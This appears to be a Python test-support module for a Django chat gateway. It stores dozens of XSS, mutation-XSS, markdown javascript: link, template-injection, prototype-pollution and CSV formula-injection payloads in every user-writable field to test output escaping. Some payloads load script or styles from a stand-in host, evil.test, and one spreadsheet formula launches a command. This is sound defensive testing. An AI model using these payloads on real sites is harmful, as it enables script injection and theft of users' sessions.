"""Words that try to become more than words, and ways to store them wherever somebody who is not us can write.

Whatever runs calls `fired()`, which `tests.support.trap` defines, or asks `evil.test`, which is not there.
"""

from dataclasses import dataclass
from uuid import UUID, uuid4

from tests.support.server import GatewayProcess, manage

# Each fits a name of a hundred characters, so that all of it stands everywhere.
PAYLOADS = (
    # Elements that run by themselves, and ways out of an attribute.
    "<script>fired()</script>",
    "<ScRiPt src=https://evil.test/x.js></ScRiPt>",
    "\"><img src=x onerror=fired()>",
    "'><svg onload=fired()>",
    "<details open ontoggle=fired()><summary>x</summary></details>",
    "<input autofocus onfocus=fired()><video><source onerror=fired()></video>",
    "<style>@import 'https://evil.test/x';@keyframes k{}</style><b style=animation-name:k onanimationstart=fired()>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<object data=javascript:fired()></object><embed src=javascript:fired()>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test/ id=clobber-form><button formaction=javascript:fired()>x</button></form>",
    "<link rel=stylesheet href=https://evil.test/x.css><body onload=fired()>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.test/x)\" onclick=fired()>cover</div>",
    "<p style=width:expression(fired())>x</p>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:fired() /><a id=a>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=fired()>#x'/></svg>",
    "<math><mi xlink:href='javascript:fired()'>x</mi></math>",
    # What a cleaner reads in one way and a browser in another.
    "<noscript><p title=\"</noscript><img src=x onerror=fired()>\">",
    "<svg></p><style><a title=\"</style><img src=x onerror=fired()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fired()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired()>",
    "<textarea></textarea><img src=x onerror=fired()></textarea>",
    "<!--><img src=x onerror=fired()>-->",
    "<![CDATA[><img src=x onerror=fired()>]]>",
    "&lt;img src=x onerror=fired()&gt; &#60;img src=x onerror=fired()&#62;",
    "%3Cimg%20src=x%20onerror=fired()%3E \\u003cimg src=x onerror=fired()\\u003e",
    "<img/src=x/onerror=fired()//<<img src=x onerror=fired()>",
    "\uff1cimg src=x onerror=fired()\uff1e\u200b<im\u200bg src=x onerror=fired()>",
    # Markdown that breaks out of what it makes.
    "[a](javascript:fired()) [b](JaVaScRiPt:fired()) [c]( javascript:fired()) [d](vbscript:fired)",
    "[a](javascript&colon;fired()) [b](&#106;avascript:fired()) [c](java&Tab;script:fired())",
    "[a](data:text/html,<script>fired()</script>) [b](<java\tscript:fired()>) [c](//evil.test/)",
    "[a](https://evil.test/\"onmouseover=fired()//) [b](https://x.test 'a\"onclick=fired() b')",
    "<javascript:fired()> <data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+>",
    "![a](https://evil.test/x.png) ![b](javascript:fired()) ![\" onerror=\"fired()](x)",
    "[a][r] ![b][r]\n\n[r]: javascript:fired() \"' onclick=fired() title='\"",
    "```html\" onload=fired() x=\"\n</code></pre><img src=x onerror=fired()>\n```",
    "| <img src=x onerror=fired()> |\n|:-\"onclick=fired()-:|\n| `</td><script>fired()</script>` |",
    "`</code><img src=x onerror=fired()>` ~~</s><svg onload=fired()>~~ **</b>\"onclick=fired()**",
    "https://evil.test/<img/src=x/onerror=fired()> https://evil.test/\"onclick=fired()",
    "1. <li onclick=fired()>\n> <blockquote onclick=fired()>\n# <h1 onclick=fired()>",
    # Templates, scripts and names of the page's own.
    "{{7|add:7}}{% debug %}{{constructor.constructor('fired()')()}}${fired()}<%= fired() %>#{fired()}",
    "</script><script>fired()</script><!--<script>",
    "');fired();//\\');fired();//\";fired();//`;fired();//",
    "<a id=clobber-a name=attributes><img id=config><img id=strings><img name=querySelector></a>",
    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=fired()>\"},\"html\":\"<svg onload=fired()>\"}",
    "\u202egnp.exe\u2066<img src=x onerror=fired()>\u2069\u0301\u0301\ufeff",
    "=cmd|'/C calc'!A0 @fired()\nX-Header: <img src=x onerror=fired()>",
)  # fmt: skip
ALL = "\n\n".join(PAYLOADS)
LINKS = (
    "javascript:fired()", "JaVaScRiPt:fired()", "\x01 javascript:fired()", "java\tscript:fired()",
    "javascript&colon;fired()", "data:text/html,<script>fired()</script>", "vbscript:fired()", "//evil.test/",
    'https://evil.test/"onclick="fired()',
    "https://evil.test/'><img src=x onerror=fired()>", "blob:https://evil.test/x", "../x", "",
)  # fmt: skip
NAME = PAYLOADS[2]  # of whom there is only one
_SAYING = """
from uuid import UUID, uuid4
from django.contrib.auth.models import User
from django.db import transaction
from django.utils import timezone
from connections import audit, services
from connections.models import Application, Connection, HubClient, Worker
from conversations.models import (
    CannedReply, ChatSession, ContactRequest, Document, Feedback, Message, Note, OutboxEntry, Pipeline, Route, Turn,
)

payloads, links, name = {payloads!r}, {links!r}, {name!r}
now, everything = timezone.now(), chr(10).join(payloads)
link = lambda number: links[number % len(links)]

def source(number):
    return [dict(doc_id=payloads[number], space_id=payloads[number], title=payloads[number], url=link(number), score=1)]

def say(session, role, number, **more):
    session.last_seq += 1
    fields = dict(text=payloads[number], sender_name=payloads[number] if role in ("operator", "notice") else "")
    fields |= dict(citations=source(number) if role == "assistant" else None, **more)
    return Message.objects.create(
        session=session, seq=session.last_seq, epoch=session.epoch, role=role, created_at=now, **fields
    )

def converse(session):
    for role in ("user", "assistant", "operator", "notice"):
        for number in range(len(payloads)):
            said = say(session, role, number)
            if role == "assistant" and number % 2:
                value = ("up", "down")[number % 4 // 2]
                Feedback.objects.create(message=said, session=session, value=value, created_at=now, updated_at=now)
    files = [
        dict(type=kind, path=path, name=bad, url=link(number), size=bad)
        for number, bad in enumerate(payloads[:12]) for kind in ("Image", "File") for path in (bad, "../x")
    ]
    plain = dict(type="Plain", text="<img src=x onerror=fired()> with files")
    say(session, "user", 2, components=[plain, *files])
    session.save()
"""
_IN_ONE_SESSION = """
with transaction.atomic():
    converse(ChatSession.objects.get(uuid=UUID({session!r})))
"""
_EVERYWHERE = """
default = Pipeline.objects.get(uuid=UUID({pipeline!r}))

def begin(pipeline, uuid, **fields):
    return ChatSession.objects.create(
        uuid=uuid, pipeline=pipeline, created_at=now, last_message_at=now, **{{"wire": "langbot", **fields}}
    )

with transaction.atomic():
    about = dict(name=name, description=everything, failure_text=everything, public=True)
    Pipeline.objects.filter(pk=default.pk).update(**about)
    worker = Worker.objects.create(uuid=uuid4(), host=name, pid=1, started_at=now, ended_at=now)
    application = services.create_application(name)[0]
    main = begin(
        default, UUID({main!r}), session_type="person", name=name, wire="contact", waiting_since=now, held_by=name,
        open_turns=1,
    )
    converse(main)
    asked = say(main, "user", 0)
    main.save()
    Turn.objects.create(
        id=asked.pk + 1000, session=main, question=asked, state="running", partial=everything, created_at=now,
        worker=worker.uuid,
    )
    for number, bad in enumerate(payloads):
        pipeline = Pipeline.objects.create(
            name=bad, description=bad, failure_text=bad, owner_email=bad, webhook_url=link(number)
        )
        about = dict(system_prompt=bad, model=bad, service=bad)
        Route.objects.create(pipeline=pipeline, kind="openai", match="regex", pattern="x", **about)
        kind = ("group", "person")[number % 2]
        session = begin(pipeline, uuid4(), session_type=kind, name=bad, waiting_since=now, held_by=bad)
        said = say(session, "user", number)
        session.save()
        uuid = UUID({request!r}) if bad == name else uuid4()
        ContactRequest.objects.create(
            uuid=uuid, pipeline=pipeline, message=said, user_agent=bad, created_at=now, escalated=number % 2
        )
        OutboxEntry.objects.create(
            kind="email", message=said, state="failed", error=bad, due_at=now, ended_at=now, created_at=now
        )
        Note.objects.create(session=main, author=bad, text=bad, created_at=now)
        CannedReply.objects.create(title=bad, text=bad)
        Document.objects.create(pipeline=default, title=bad, url=link(number), text=bad, space=bad, digest=str(number))
        HubClient.objects.create(client_id=bad, first_seen=now, last_seen=now)
        User.objects.create(username=bad, first_name=bad, last_name=bad, email=bad, is_staff=True)
        about = dict(name=bad, callback_url=link(number), origins=[bad])
        Application.objects.create(appid=str(number), secret_hash="", **about)
        audit.record(audit.Action.TAKE_OVER, actor=bad, subject=bad, details=bad)
        for ended in (None, now):
            Connection.objects.create(
                uuid=uuid4(), worker=worker.uuid, wire="contact", pipeline=pipeline.uuid, session=session.uuid,
                client=bad, application=application.uuid, address=bad[:64], user_agent=bad, connected_at=now,
                last_active=now, ended_at=ended, close_code=ended and 4003, close_reason=bad if ended else "",
            )
print(application.pk, Document.objects.get(title=name).pk)
"""


@dataclass(frozen=True)
class Stored:
    """Where the words were put: a session in which all are said, a contact request, an application and a document."""

    main: UUID
    request: UUID
    application: str
    document: str


def store_everywhere(gateway: GatewayProcess, pipeline: str) -> Stored:
    """Put the words into every field that somebody who is not us can write."""
    main, request = uuid4(), uuid4()
    more = {"pipeline": pipeline, "main": str(main), "request": str(request)}
    application, document = _run(gateway, _SAYING + _EVERYWHERE, **more).split()
    return Stored(main, request, application, document)


def say_in_session(gateway: GatewayProcess, session: str) -> None:
    """Let everybody say the words in a session."""
    _run(gateway, _SAYING + _IN_ONE_SESSION, session=session)


def _run(gateway: GatewayProcess, code: str, **more: str) -> str:
    code = code.format(payloads=PAYLOADS, links=LINKS, name=NAME, **more)
    return manage("shell", "-v", "0", "-c", code, data_dir=gateway.data_dir, DATABASE_URL=gateway.database_url)
